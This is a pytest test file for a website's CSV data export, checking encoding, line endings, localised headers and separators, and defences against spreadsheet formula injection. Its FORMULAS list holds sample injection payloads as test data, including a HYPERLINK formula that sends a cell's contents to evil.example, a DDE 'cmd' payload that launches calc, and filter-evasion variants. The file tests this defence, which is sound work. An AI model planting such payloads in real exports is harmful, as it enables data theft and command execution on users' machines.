"""CSV: it opens in a spreadsheet as it is, and nothing in it is a formula."""

from __future__ import annotations

import re
from functools import partial
from pathlib import Path

import pytest
from flask import Flask

from battkomp.content.knowledge import Unit
from battkomp.data import files
from battkomp.data.columns import Amount, CodedValue
from battkomp.data.datasets import dataset
from battkomp.data.files import Dialect, cell, dialect, harmless
from battkomp.languages import LANGUAGES as SITE_LANGUAGES
from tests.support.datasets import KEYS, LANGUAGES, SEPARATORS, address, as_csv, column
from tests.support.sites import change, edited_seed, settings_in, site
from tests.support.visitor import Visitor

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"Klikk")',
    "=cmd|' /C calc'!A0",
    "+47 22 00 00 00",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Ås", "a=b", "2021–2022", "67", "https://a.example/?=", "«-»"]
)
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("key", KEYS)
def test_the_bytes_are_utf_8_with_a_mark_and_lines_end_as_the_rfc_says(
    visitor: Visitor, language: str, key: str
) -> None:
    data = visitor.ask(address(language, key, "csv")).data
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.endswith(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")
    data.decode("utf-8")


def test_the_letters_are_whole(visitor: Visitor) -> None:
    text = visitor.ask(address("nb", "organisations", "csv")).data.decode("utf-8-sig")
    assert {"æ", "ø", "å"} <= set(text)
    assert "Ã" not in text


@pytest.mark.parametrize(
    ("language", "labels"),
    [
        ("nb", ["Nøkkel", "Hva tallet gjelder", "Verdi", "Enhet"]),
        ("en", ["Key", "What is counted", "Value", "Unit"]),
    ],
)
def test_the_header_is_in_the_language_of_the_file(
    visitor: Visitor, language: str, labels: list[str]
) -> None:
    assert as_csv(visitor, language, "figures")[0][:4] == labels


def test_a_column_is_separated_as_spreadsheets_in_the_language_expect() -> None:
    assert {one.tag: dialect(one).separator for one in SITE_LANGUAGES} == SEPARATORS
    assert {one.tag: dialect(one).decimal for one in SITE_LANGUAGES} == {"nb": ",", "en": "."}


def nasty(folder: Path) -> Visitor:
    """Return a visitor of a site whose content would do harm in a spreadsheet."""
    title = change(
        'title.nb = "Tilgang på batterikompetanse er en utfordring"',
        """title.nb = '=1+1;"@x",\\x'""",
    )
    body = partial(
        re.sub, r'body.nb = "Det sa 92.*"', 'body.nb = "-1; «+»\\\\n\\\\n=2,5 \\\\"så\\\\" 💥"'
    )
    publisher = change('publisher = "Teknisk Ukeblad"', 'publisher = "@Teknisk"')
    seed = edited_seed(folder, findings=lambda text: body(title(text)), sources=publisher)
    return Visitor(site(settings_in(folder), seed))


def test_nasty_content_comes_whole_and_harmless(tmp_path: Path) -> None:
    visitor = nasty(tmp_path)
    row = as_csv(visitor, "nb", "findings")[1]
    assert row[1] == '\'=1+1;"@x",\\x'
    assert row[2] == '\'-1; «+»\n\n=2,5 "så" 💥'
    assert "'@Teknisk" in column(visitor, "nb", "sources", "publisher")


@pytest.mark.parametrize(("decimal", "written"), [(",", "-67,5"), (".", "-67.5")])
def test_a_number_below_nought_stays_a_number(decimal: str, written: str) -> None:
    value = Amount(-67.5, Unit.COUNT, CodedValue("exact", "exactly"))
    assert cell(value, Dialect(";", decimal)) == written
    assert cell("-67,5", Dialect(";", decimal)) == "'-67,5"


@pytest.mark.parametrize("key", KEYS)
def test_no_cell_of_what_ships_is_a_formula(visitor: Visitor, key: str) -> None:
    for language in LANGUAGES:
        for row in as_csv(visitor, language, key):
            assert not [one for one in row if one.startswith(tuple("=+-@\t\r"))]


def test_the_same_data_makes_the_same_bytes(app: Flask) -> None:
    written = []
    for _time in range(2):
        with app.test_request_context("/nb/"):
            written.append(files.as_csv(dataset("findings")))
    assert written[0] == written[1]
